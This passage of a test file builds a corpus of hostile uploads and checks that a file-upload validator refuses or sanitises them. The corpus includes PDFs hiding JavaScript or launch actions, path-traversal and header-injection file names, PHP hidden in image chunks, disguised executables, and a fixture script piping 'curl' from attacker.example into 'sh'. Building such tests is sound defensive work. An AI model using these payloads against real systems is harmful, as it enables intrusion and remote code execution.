    onePagePdf('', ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']),
  ),
  refuse('an XFA form', 'statement.pdf', () =>
    onePagePdf('/AcroForm << /Fields [] /XFA 5 0 R >> ', ['<< >>']),
  ),
  refuse('encryption, which hides the content from inspection', 'statement.pdf', () =>
    onePagePdf(
      '',
      ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'],
      '/Encrypt 5 0 R /ID [<01> <01>] ',
    ),
  ),
  refuse('/J#61vaScript, a hex-escaped name', 'statement.pdf', () =>
    pdfOpening('<< /S /J#61vaScript /JS (app.alert(1)) >>'),
  ),
  refuse('/#4A#53, every letter of /JS escaped', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /#4A#53 (app.alert(1)) >> >> '),
  ),
  refuse('/L#61unch, an escaped launch action', 'statement.pdf', () =>
    pdfOpening('<< /S /L#61unch /F (calc.exe) >>'),
  ),
  refuse('/Emb#65ddedFiles, an escaped attachment tree', 'statement.pdf', () =>
    onePagePdf('/Names << /Emb#65ddedFiles << /Names [(a.exe) 5 0 R] >> >> ', ['<< >>']),
  ),
  refuse('a script in a compressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /FlateDecode'),
  ),
  refuse('a script in an uncompressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm', (data) => data),
  ),
  refuse('a script in an object stream that calls itself an image', 'statement.pdf', () =>
    pdfWithHiddenScript('/Subtype /Image /Width 1 /Height 1 /Filter /FlateDecode'),
  ),
  refuse('a script behind two layers of compression', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', (data) =>
      zlib.deflateSync(zlib.deflateSync(data)),
    ),
  ),
  refuse('a script in an ASCII85 and Flate encoded object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]', (data) =>
      Buffer.from(`${encodeAscii85(zlib.deflateSync(data))}~>`, 'latin1'),
    ),
  ),
  refuse('a script in an ASCIIHex encoded object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /ASCIIHexDecode', (data) =>
      Buffer.from(`${data.toString('hex')}>`, 'latin1'),
    ),
  ),
  refuse('a hex-escaped /J#61vaScript inside a compressed object stream', 'statement.pdf', () => {
    const hidden = objectStream([[6, '<< /S /J#61vaScript /J#53 (app.alert(1)) >>']]);
    return onePagePdf('/OpenAction 6 0 R ', [
      pdfStream(`/Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode`, hidden.data),
    ]);
  }),
  refuse('an XFA form inside a compressed object stream', 'statement.pdf', () => {
    const hidden = objectStream([[6, '<< /Fields [] /XFA 7 0 R >>']]);
    return onePagePdf('/AcroForm 6 0 R ', [
      pdfStream(`/Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode`, hidden.data),
    ]);
  }),
  refuse('an object stream behind LZW, which is not decoded', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from([0x80, 0x0b]))]),
  ),
  refuse('an object stream behind RunLength, which is not decoded', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /RunLengthDecode', Buffer.from([0x80]))]),
  ),
  refuse('an object stream behind a Crypt filter', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /Crypt', Buffer.from([0x00]))]),
  ),
  refuse('a script in a compressed stream whose /Length says 0', 'statement.pdf', () => {
    const hidden = objectStream([[6, SCRIPT_ACTION]]);
    return onePagePdf('/OpenAction 6 0 R ', [
      Buffer.concat([
        Buffer.from(
          `<< /Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode /Length 0 >>\nstream\n`,
        ),
        hidden.data,
        Buffer.from('\nendstream'),
      ]),
    ]);
  }),
  refuse('a script added in an incremental update after the first %%EOF', 'statement.pdf', () =>
    Buffer.concat([
      onePagePdf(),
      Buffer.from(`6 0 obj\n${SCRIPT_ACTION}\nendobj\ntrailer\n<< /Root 1 0 R /OpenAction 6 0 R >>\n%%EOF\n`),
    ]),
  ),
  refuse('a script before the damage in a corrupted compressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /FlateDecode', (data) => {
      const padded = zlib.deflateSync(Buffer.concat([data, Buffer.from(` %${'x'.repeat(5000)}`)]));
      return Buffer.from(padded).fill(0xff, padded.length - 20, padded.length - 4);
    }),
  ),
];

/** A plain 8 × 8 PNG under a hostile name: the name is what is under test. */
const namedPng = (name: string, filename: string, stored: string) =>
  accept(name, filename, basePng, storedAs(stored));

const hostileNames: HostileFile[] = [
  namedPng('a path climbing out of the folder', '../../etc/passwd.png', 'passwd.png'),
  namedPng('a Windows path climbing out of the folder', '..\\..\\Windows\\System32\\evil.png', 'evil.png'),
  namedPng('an absolute path', '/etc/cron.d/job.png', 'job.png'),
  namedPng('a Windows drive path', 'C:\\Windows\\Temp\\drive.png', 'drive.png'),
  namedPng('dots and doubled slashes', '....//....//dots.png', 'dots.png'),
  namedPng(
    'a percent-encoded path',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd.png',
    '_2e_2e_2f_2e_2e_2fetc_2fpasswd.png',
  ),
  namedPng('full-width slashes that NFKC turns into /', 'a\uff0f..\uff0fb.png', 'a_.._b.png'),
  namedPng('a NUL byte before the extension', 'a\u0000.png', 'a_.png'),
  namedPng('a NUL byte after a .php extension', 'shell.php\u0000.png', 'shell.php_.png'),
  namedPng('only NUL bytes', '\u0000\u0000.png', '__.png'),
  namedPng('a right-to-left override', 'passport\u202egnp.png', 'passport_gnp.png'),
  namedPng('a zero-width space', 'pass\u200bport.png', 'pass_port.png'),
  namedPng(
    'a header injection with CR LF',
    'a\r\nSet-Cookie: session=x\r\n.png',
    'a__Set-Cookie_ session_x__.png',
  ),
  namedPng('markup in the name', '<script>alert(1)<\\script>.png', 'script_.png'),
  namedPng('a name of 10,000 characters', `${'a'.repeat(10_000)}.png`, `${'a'.repeat(96)}.png`),
  namedPng('only an extension, a hidden file', '.png', 'png'),
  refuse('a right-to-left override hiding .exe', 'passport\u202egnp.exe', basePng),
  refuse('a NUL byte after the extension', 'passport.png\u0000', basePng),
  refuse('a trailing space, which Windows drops', 'passport.png ', basePng),
  refuse('a trailing dot, which Windows drops', 'passport.png.', basePng),
  refuse('an NTFS alternate data stream', 'passport.png::$DATA', basePng),
  refuse('a full-width dot before the extension', 'passport\uff0epng', basePng),
  refuse('an empty name', '', basePng),
];

const doubleExtensions: HostileFile[] = [
  accept(
    'x.php.png with PHP code in a tEXt chunk',
    'x.php.png',
    async () => withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${PHP}`))),
    storedAs('x.php.png', ['system(']),
  ),
  accept(
    'x.php.jpg with PHP code in a comment segment',
    'x.php.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xfe, PHP),
    reencoded('jpeg', 16, 16, ['system(']),
  ),
  accept('x.asp;.png, an IIS semicolon name', 'x.asp;.png', basePng, storedAs('x.asp_.png')),
  refuse('x.png.exe', 'x.png.exe', basePng),
  refuse('x.png.php', 'x.png.php', basePng),
  refuse('x.jpg.html with an HTML page', 'x.jpg.html', () => Buffer.from(HTML)),
  refuse('x.jpg.svg with an SVG', 'x.jpg.svg', () => Buffer.from(SVG)),
  refuse('x.pdf.js with a script', 'x.pdf.js', () => Buffer.from('app.alert(1);')),
  refuse('x.pdf.exe with an executable', 'x.pdf.exe', portableExecutable),
  refuse('x.html.pdf with an HTML page', 'x.html.pdf', () => Buffer.from(HTML)),
];

const corrupt: HostileFile[] = [
  refuse('an empty file named .png', 'empty.png', () => Buffer.alloc(0)),
  refuse('an empty file named .jpg', 'empty.jpg', () => Buffer.alloc(0)),
  refuse('an empty file named .pdf', 'empty.pdf', () => Buffer.alloc(0)),
  refuse('one byte named .png', 'one.png', () => Buffer.from([0x89])),
  refuse('a PNG signature and nothing else', 'cut.png', () => Buffer.from('89504e470d0a1a0a', 'hex')),
  refuse('a PNG cut in the middle of IDAT', 'cut.png', async () => {
    const whole = await png(64, 64);
    return whole.subarray(0, whole.length - 30);
  }),
  refuse('a PNG without IEND', 'cut.png', async () => {
    const whole = await basePng();
    return whole.subarray(0, whole.length - 12);
  }),
  refuse('a PNG whose IHDR checksum is wrong', 'crc.png', async () => {
    const damaged = Buffer.from(await basePng());
    damaged.writeUInt32BE((damaged.readUInt32BE(29) ^ 0xffffffff) >>> 0, 29);
    return damaged;
  }),
  refuse('a PNG whose IDAT is not deflate data', 'garbage.png', () =>
    handmadePng(16, 16, [pngChunk('IDAT', Buffer.from('not deflate data at all'))]),
  ),
  refuse('a JPEG start-of-image marker and nothing else', 'cut.jpg', () => Buffer.from('ffd8ff', 'hex')),
  refuse('a JPEG cut in the middle of its scan', 'cut.jpg', async () => {
    const whole = await jpeg(64, 64);
    return whole.subarray(0, whole.length - 40);
  }),
  refuse('a JPEG without its end-of-image marker', 'cut.jpg', async () => {
    const whole = await baseJpeg();
    return whole.subarray(0, whole.length - 2);
  }),
  refuse('a PDF header and nothing else', 'cut.pdf', () => Buffer.from('%PDF-1.7\n')),
  refuse('a PDF cut before %%EOF', 'cut.pdf', () => {
    const whole = onePagePdf();
    return whole.subarray(0, whole.lastIndexOf('%%EOF'));
  }),
  refuse('a PDF with bytes before its header', 'shifted.pdf', () =>
    Buffer.concat([Buffer.from('\n\n'), onePagePdf()]),
  ),
  refuse('random bytes named .jpg', 'noise.jpg', () =>
    Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 73) % 256)),
  ),
  refuse('NUL bytes named .pdf', 'zeros.pdf', () => Buffer.alloc(4096)),
];

const oversize: HostileFile[] = [
  refuseAsTooLarge('a PDF of 10 MB and one byte', 'big.pdf', () => padTo(MAX_UPLOAD_BYTES + 1, onePagePdf())),
  refuseAsTooLarge('a PNG of 10 MB and one byte', 'big.png', async () =>
    padTo(MAX_UPLOAD_BYTES + 1, await basePng()),
  ),
  refuseAsTooLarge('a JPEG of 10 MB and one byte', 'big.jpg', async () =>
    padTo(MAX_UPLOAD_BYTES + 1, await baseJpeg()),
  ),
  refuseAsTooLarge('20 MB of anything', 'big.png', () => Buffer.alloc(2 * MAX_UPLOAD_BYTES, 0xff)),
];

const executables: HostileFile[] = [
  refuse('a Linux ELF executable, named .png', 'tool.png', elf),
  refuse('a Linux ELF executable, named .jpg', 'tool.jpg', elf),
  refuse('a Linux ELF executable, named .pdf', 'tool.pdf', elf),
  refuse('a Windows PE executable, named .png', 'setup.png', portableExecutable),
  refuse('a Windows PE executable, named .jpg', 'setup.jpg', portableExecutable),
  refuse('a Windows PE executable, named .pdf', 'setup.pdf', portableExecutable),
  refuse('a Windows PE executable with a PNG appended', 'setup.png', async () =>
    Buffer.concat([portableExecutable(), await basePng()]),
  ),
  refuse('a Linux ELF executable behind a PNG signature', 'tool.png', () =>
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), elf()]),
  ),
  refuse('a macOS Mach-O executable, named .jpg', 'tool.jpg', () =>
    Buffer.from('cffaedfe07000001030000000200000000000000', 'hex'),
  ),
  refuse('a Java class file, named .jpg', 'Evil.jpg', () => Buffer.from('cafebabe00000034000a0a0002', 'hex')),
  refuse('a WebAssembly module, named .png', 'module.png', () =>
    Buffer.from('0061736d0100000001040160000000', 'hex'),
  ),
  refuse('a shell script, named .png', 'install.png', () =>
    Buffer.from('#!/bin/sh\ncurl -s https://attacker.example/x | sh\n'),
  ),
  refuse('a Windows shortcut (.lnk), named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]),
  ),
  refuse('an OLE compound file (MSI, old Office macros), named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]),
  ),
];

const unsupportedImages: HostileFile[] = [
  refuse('a GIF, named .png', 'scan.png', () => sharpImage('gif')),
  refuse('a GIF, named .jpg', 'scan.jpg', () => sharpImage('gif')),
  refuse('a BMP, named .png', 'scan.png', bmp),
  refuse('a BMP, named .jpg', 'scan.jpg', bmp),
  refuse('a TIFF, named .jpg', 'scan.jpg', () => sharpImage('tiff')),
  refuse('a TIFF, named .png', 'scan.png', () => sharpImage('tiff')),
  refuse('a TIFF, named .pdf', 'scan.pdf', () => sharpImage('tiff')),
  refuse('a WebP, named .png', 'scan.png', () => sharpImage('webp')),
  refuse('a WebP, named .jpg', 'scan.jpg', () => sharpImage('webp')),
  refuse('an AVIF, named .jpg', 'scan.jpg', () => sharpImage('avif')),
  refuse('a Windows icon holding a PNG, named .png', 'scan.png', ico),
  refuse('a Photoshop document, named .png', 'scan.png', () =>
    Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), Buffer.alloc(80)]),
  ),
  refuse('a JPEG 2000 image, named .jpg', 'scan.jpg', () =>
    Buffer.concat([
      Buffer.from('0000000c6a5020200d0a870a00000014667479706a703220000000006a703220', 'hex'),
      Buffer.alloc(64),
    ]),
  ),
];

const CORPUS: Case[] = (
  [
    ['polyglot', polyglots],
    ['markup renamed', markupRenamed],
    ['bomb', bombs],
    ['pixel flood', pixelFloods],
    ['PDF active content', pdfActiveContent],
    ['hostile name', hostileNames],
    ['double extension', doubleExtensions],
    ['corrupt', corrupt],
    ['oversize', oversize],
    ['executable', executables],
    ['unsupported image', unsupportedImages],
  ] as const satisfies ReadonlyArray<readonly [Family, HostileFile[]]>
).flatMap(([family, files]) => files.map((file) => ({ ...file, family })));

describe('the hostile upload corpus', () => {
  it('holds at least 100 files, every family among them, each case named once', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(100);
    for (const family of FAMILIES)
      expect(CORPUS.filter((file) => file.family === family).length, family).toBeGreaterThanOrEqual(3);
    expect(new Set(CORPUS.map(({ family, name }) => `${family}: ${name}`)).size).toBe(CORPUS.length);
  });

  for (const { family, name, filename, build, outcome, pdfDecodingBudget } of CORPUS) {
    it(`${family}: ${name} is ${outcome.is}`, async () => {
      const file = { filename, bytes: await build() };
      await withPdfDecodingBudget(pdfDecodingBudget, async () => {
        if (outcome.is === 'refused') await expectUnsupported(file);
        else if (outcome.is === 'refused as too large') await expectTooLarge(file);
        else await outcome.check(await checkUpload(file), filename);
      });
    });
  }
});

describe('what the corpus is measured against', () => {
  it('still stores a PDF with web and e-mail links, and line ends and NULs after %%EOF, byte for byte', async () => {
    const links = onePagePdf('/OpenAction << /S /URI /URI (https://www.example.com/statement) >> ', [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (mailto:help@example.com) >> >>',
      `<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI <${Buffer.from('HTTP://example.com').toString('hex')}> >> >>`,
    ]);
    const document = Buffer.concat([links, Buffer.from('\r\n\0\0')]);
    expect(await checkUpload({ filename: 'statement.pdf', bytes: document })).toEqual({
      kind: 'pdf',
      contentType: 'application/pdf',
      bytes: document,
    });
  });
});
